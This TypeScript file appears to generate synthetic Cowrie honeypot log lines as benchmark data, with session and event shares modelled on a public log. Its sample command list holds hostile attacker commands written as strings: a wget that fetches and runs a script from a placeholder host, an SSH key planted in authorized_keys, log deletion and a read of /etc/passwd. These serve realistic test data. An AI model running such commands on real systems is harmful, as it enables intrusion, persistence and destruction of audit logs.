import { once } from 'node:events';
import { createWriteStream } from 'node:fs';
import { createRandom, type Random } from './random.ts';

/**
 * Cowrie lines as a busy sensor writes them, made up and seeded; no line is anybody's. Their kinds have the shares that
 * were counted in a public T-Pot log of 2022: about seven lines a session, three sessions of four log in and run one
 * command, a session in five fails a login first, an address comes back thirteen times in 80,000 lines.
 */
export function* makeLines(count: number, seed = 1, startMs = Date.UTC(2026, 9, 1)): Generator<string> {
  const random = createRandom(seed);
  // Two seeds may come to the same numbers, but never to the same sessions.
  const mark = Math.imul(seed, 0x9e37_79b1) >>> 8;
  let made = 0;
  let timeMs = startMs;
  while (made < count) {
    for (const fields of makeSession(random, mark)) {
      if (made++ >= count) return;
      timeMs += 1 + random(400);
      yield JSON.stringify({ ...fields, sensor: 'bench-1', timestamp: stamp(timeMs, random(1000)) });
    }
  }
}

/** Writes `count` lines to `file`. @returns its size in bytes. */
export async function writeLines(file: string, count: number, seed = 1, startMs?: number): Promise<number> {
  const out = createWriteStream(file);
  let chunk = '';
  for (const line of makeLines(count, seed, startMs)) {
    chunk += `${line}\n`;
    if (chunk.length < 1 << 18) continue;
    if (!out.write(chunk)) await once(out, 'drain');
    chunk = '';
  }
  out.end(chunk);
  await once(out, 'close');
  return out.bytesWritten;
}

function* makeSession(random: Random, mark: number) {
  const common = {
    session: hexDigits(random(2 ** 24)) + hexDigits(random(2 ** 24) ^ mark),
    protocol: random(5) === 0 ? 'telnet' : 'ssh',
    src_ip: `198.51.${random(30)}.${random(30)}`,
    src_port: 1024 + random(60_000),
    dst_ip: '192.0.2.10',
    dst_port: 2222,
  };
  const event = (eventid: string, fields: object, message: string) => ({ ...common, ...fields, eventid, message });
  yield event('cowrie.session.connect', {}, `New connection: ${common.src_ip}`);
  yield event('cowrie.client.version', { version: 'SSH-2.0-Go' }, 'Remote SSH version: SSH-2.0-Go');
  yield event(
    'cowrie.client.kex',
    { hassh: hassh, hasshAlgorithms: algorithms },
    `SSH client hassh fingerprint: ${hassh}`,
  );
  const username = pick(usernames, random);
  if (random(5) === 0) {
    const password = random(4) === 0 ? `p${random(1_000_000)}` : pick(passwords, random);
    yield event('cowrie.login.failed', { username, password }, `login attempt [${username}/${password}] failed`);
  }
  if (random(4) < 3) {
    yield event('cowrie.login.success', { username, password: 'admin' }, `login attempt [${username}/admin] succeeded`);
    yield event('cowrie.session.params', { arch: 'linux-x64-lsb' }, '');
    for (let command = 1 + Math.floor(random(8) / 7); command > 0; command--) {
      const input =
        random(10) === 0 ? `echo ${random(1e9).toString(36)} > /tmp/.${random(1e6)}` : pick(commands, random);
      yield event('cowrie.command.input', { input }, `CMD: ${input}`);
    }
    yield event(
      'cowrie.log.closed',
      { ttylog: 'var/lib/cowrie/tty/0', size: 900, shasum: 'aa'.repeat(32), duplicate: true, duration_ms: 900 },
      'Closing TTY Log',
    );
  }
  yield event('cowrie.session.closed', { duration_ms: 100 + random(9000) }, 'Connection lost');
}

/** Six; Cowrie's session ids are twelve, and random. */
function hexDigits(value: number): string {
  return value.toString(16).padStart(6, '0');
}

const hassh = '98ddc5604ef6a1006a2b49a58759fbe6';
const algorithms =
  'curve25519-sha256,ecdh-sha2-nistp256;aes128-gcm@openssh.com,chacha20-poly1305@openssh.com;hmac-sha2-256;none';
const usernames = ['root', 'admin', 'user', 'ubuntu', 'test', 'oracle', 'postgres', 'pi', 'git', 'ftpuser'];
const passwords = ['123456', 'admin', 'root', 'password', '1234', 'test', 'qwerty', 'P@ssw0rd', 'raspberry', ''];
const commands = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'free -m',
  'ls -la /root',
  'w',
  'cd /tmp; wget http://203.0.113.5/a.sh; chmod +x a.sh; ./a.sh',
  'cat /etc/passwd',
  'crontab -l',
  'mkdir -p ~/.ssh && echo ssh-rsa AAAAB3Nz bench >> ~/.ssh/authorized_keys',
  'rm -rf /var/log/wtmp',
];

function pick<T>(items: readonly [T, ...T[]] | readonly T[], random: Random): T {
  const item = items[random(items.length)];
  if (item === undefined) throw new Error('an empty list has nothing to pick');
  return item;
}

function stamp(timeMs: number, microsecond: number): string {
  return `${new Date(timeMs).toISOString().slice(0, -1)}${String(microsecond).padStart(3, '0')}Z`;
}
